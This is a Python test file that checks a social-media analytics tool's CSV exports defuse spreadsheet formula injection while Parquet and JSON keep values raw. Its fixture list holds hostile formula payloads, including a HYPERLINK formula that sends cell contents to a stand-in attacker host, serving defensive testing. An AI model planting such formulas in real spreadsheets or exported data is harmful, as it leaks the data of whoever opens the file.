"""Spreadsheet formulas in what strangers write never go out live in a CSV; Parquet and JSON keep the values raw."""

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime

import pandas as pd
import pytest
import streamlit as st

from summitpulse.normalise import normalise
from summitpulse.outputs.export import EXPORTS
from summitpulse.outputs.report import write_data_files
from summitpulse.store.engine import ingest, open_store

from .conftest import ROOT, dashboard_app

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full width
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _hostile_store(url: str, config) -> None:
    """Posts whose text, author name and handle are formulas, counted under the bundled event."""
    when = datetime(2014, 10, 22, 15, tzinfo=UTC)
    tweets, users = [], []
    for i, formula in enumerate(FORMULAS):
        tweets.append(
            {
                "id": str(1000 + i),
                "author_id": str(900 + i),
                "text": f"{formula} #SoMeSummit",
                "created_at": when.replace(minute=i).isoformat(),
            }
        )
        users.append({"id": str(900 + i), "username": formula.strip(), "name": formula, "description": formula})
    engine = open_store(url, config)
    ingest(engine, normalise("x_page", {"data": tweets, "includes": {"users": users}}, config.hashtags.all))
    engine.dispose()


def _cells(path_or_bytes) -> list[str]:
    raw = path_or_bytes if isinstance(path_or_bytes, bytes) else open(path_or_bytes, "rb").read()
    return [cell for row in csv.reader(io.StringIO(raw.decode(), newline="")) for cell in row]


def _assert_defused(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(STARTS)]
    assert not live, f"formulas would run: {live[:5]}"
    assert any(c.startswith("'=HYPERLINK") for c in cells), "the hostile values are in the file, defused"


@pytest.fixture
def hostile(store_url, config):
    _hostile_store(store_url, config)
    return store_url


def _cli(url: str, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "summitpulse", "--config", str(ROOT / "config.yaml"), *args],
        cwd=ROOT,
        env={**os.environ, "SUMMITPULSE_DATABASE_URL": url},
        capture_output=True,
        timeout=300,
    )


@pytest.mark.parametrize("what", list(EXPORTS))
def test_every_export_defuses_formulas_in_csv_and_keeps_parquet_and_json_raw(hostile, what, tmp_path):
    out = {fmt: tmp_path / f"{what}.{fmt}" for fmt in ("csv", "parquet", "json")}
    for fmt, path in out.items():
        assert _cli(hostile, "export", what, "--format", fmt, "--out", str(path)).returncode == 0
    frame = pd.read_parquet(out["parquet"])
    cells = _cells(out["csv"])
    if what in ("posts", "contributors"):
        _assert_defused(cells)
    assert not [c for c in cells if c.startswith(STARTS)]
    # the round trip: each CSV cell is the Parquet value, with a quote before it when it started like a formula
    as_read = pd.read_csv(out["csv"], dtype=str, keep_default_na=False)
    for column in frame.select_dtypes(include="object").columns:
        raw = frame[column].map(lambda v: v if isinstance(v, str) else None)
        for value, cell in zip(raw, as_read[column], strict=True):
            if value is not None:
                assert cell == ("'" + value if value.startswith(STARTS) else value)
    records = json.loads(out["json"].read_text())
    if what == "posts":
        assert {r["text"] for r in records} >= {f"{f} #SoMeSummit" for f in FORMULAS}


def test_the_reports_data_files_defuse_formulas(hostile, config, tmp_path):
    engine = open_store(hostile)
    write_data_files(config, engine, tmp_path)
    engine.dispose()
    for name in EXPORTS:
        assert not [c for c in _cells(tmp_path / f"{name}.csv") if c.startswith(STARTS)]
    _assert_defused(_cells(tmp_path / "posts.csv"))
    assert set(pd.read_parquet(tmp_path / "posts.parquet").text) >= {f"{f} #SoMeSummit" for f in FORMULAS}


def test_the_export_pages_download_defuses_formulas(monkeypatch, tmp_path, config):
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    _hostile_store(url, config)
    st.cache_resource.clear()
    st.cache_data.clear()
    monkeypatch.setenv("SUMMITPULSE_DATABASE_URL", url)
    monkeypatch.setenv("SUMMITPULSE_CONFIG", str(ROOT / "config.yaml"))
    offered = []
    monkeypatch.setattr(st, "download_button", lambda label, data, *a, **k: offered.append(data))
    at = dashboard_app()
    at.session_state["organiser"] = True
    at.switch_page("pages/export.py").run()
    at.button[0].click().run()
    assert not at.exception and offered
    _assert_defused(_cells(offered[-1]))
